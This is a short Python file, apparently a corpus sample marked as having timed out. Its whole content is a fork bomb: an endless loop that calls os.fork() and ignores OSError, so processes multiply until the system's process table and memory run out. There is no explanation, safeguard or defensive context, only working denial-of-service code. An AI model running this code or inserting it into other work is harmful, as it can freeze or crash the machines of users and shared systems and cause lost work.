# dlw-corpus: units=1.03 status=timeout inputs=timeout verdict=timeout
"""Forks that fork, each of them as long as it lives."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
